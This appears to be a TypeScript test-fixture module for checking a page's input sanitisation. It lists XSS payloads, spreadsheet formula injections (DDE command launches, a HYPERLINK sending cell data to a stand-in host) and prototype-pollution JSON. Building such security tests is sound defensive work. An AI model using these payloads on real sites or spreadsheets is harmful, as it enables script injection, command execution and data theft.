/**
 * Texts that would run, if somewhere a text were taken for markup. Each calls `xss()` or leaves an element with `data-xss`; the
 * page under test counts both, and violations of its policy, which would mean that the markup came as far as the document.
 */
export const MARKUP: readonly string[] = [
  '<script data-xss>xss()</script>',
  '<img data-xss src=x onerror=xss()>',
  '"><img data-xss src=x onerror=xss()>',
  "'><img data-xss src=x onerror=xss()>",
  '<svg data-xss onload=xss()>',
  '<svg data-xss><script>xss()</script></svg>',
  '<svg data-xss><animate onbegin=xss() attributeName=x dur=1s>',
  '<body data-xss onload=xss()>',
  '<iframe data-xss srcdoc="<script>parent.xss()</script>">',
  '<iframe data-xss src="javascript:parent.xss()">',
  '<a data-xss href="javascript:xss()">x</a>',
  '<details data-xss open ontoggle=xss()>',
  '<video data-xss><source onerror=xss()>',
  '<math data-xss><mtext></mtext><mglyph><style><img src=x onerror=xss()></style>',
  '<input data-xss autofocus onfocus=xss()>',
  '<object data-xss data="data:text/html,<script>parent.xss()</script>">',
  '<embed data-xss src="javascript:xss()">',
  '<form data-xss action="javascript:xss()"><button>x</button></form>',
  '<base data-xss href="https://elsewhere.example/">',
  '<meta data-xss http-equiv="refresh" content="0;url=javascript:xss()">',
  '<link data-xss rel=stylesheet href="https://elsewhere.example/x.css">',
  '<style data-xss>@import "https://elsewhere.example/x.css";</style>',
  '</title><script data-xss>xss()</script>',
  '</textarea><script data-xss>xss()</script>',
  '</style><script data-xss>xss()</script>',
  '</script><script data-xss>xss()</script>',
  '--><script data-xss>xss()</script>',
  ']]><script data-xss>xss()</script>',
  '<noscript><p title="</noscript><img data-xss src=x onerror=xss()>">',
  '<template data-xss><script>xss()</script></template>',
  '<x data-xss onclick=xss() style="position:fixed;inset:0">x</x>',
  '&lt;img data-xss src=x onerror=xss()&gt;',
  '&#60;img data-xss src=x onerror=xss()&#62;',
  '\\u003cimg data-xss src=x onerror=xss()\\u003e',
  '%3Cimg%20data-xss%20src=x%20onerror=xss()%3E',
  '{{constructor.constructor("xss()")()}}',
  '${xss()}',
  '{@html "<img data-xss src=x onerror=xss()>"}',
  'javascript:xss()',
  'data:text/html,<script>xss()</script>',
  "'-xss()-'",
  '"-xss()-"',
  "';xss();//",
  '<<script data-xss>xss()//<</script>',
  '<scr\u0000ipt data-xss>xss()</scr\u0000ipt>',
  '\u202e<img data-xss src=x onerror=xss()>',
  '＜img data-xss src=x onerror=xss()＞'
];

/** What spreadsheets run, or have run, at the start of a cell. */
export const FORMULAS: readonly string[] = [
  '=1+1',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("https://elsewhere.example/?"&A1,"x")',
  '=WEBSERVICE("https://elsewhere.example/")',
  '=IMPORTXML("https://elsewhere.example/","//a")',
  '=DDE("cmd";"/C calc";"x")',
  '+1+1',
  "+cmd|' /C calc'!A0",
  '-1+1',
  "-2+3+cmd|' /C calc'!A0",
  '@SUM(1,1)',
  "@cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1)'
];

/** JSON that would give every object of the page a property, if it were copied key by key. */
export const POLLUTION: readonly string[] = [
  '{"__proto__":{"polluted":1}}',
  '{"constructor":{"prototype":{"polluted":1}}}',
  '{"__proto__":{"__proto__":{"polluted":1}}}',
  '[{"__proto__":{"polluted":1}}]',
  '{"v":1,"scenarios":[{"__proto__":{"polluted":1}}]}',
  '{"v":1,"scenarios":[{"v":1,"assumptions":{"__proto__":{"polluted":1},"constructor":1}}]}',
  '{"v":1,"scenarios":[{"v":1,"levers":[{"lever":"__proto__","target":"all","path":[[2026,1]]}]}]}'
];
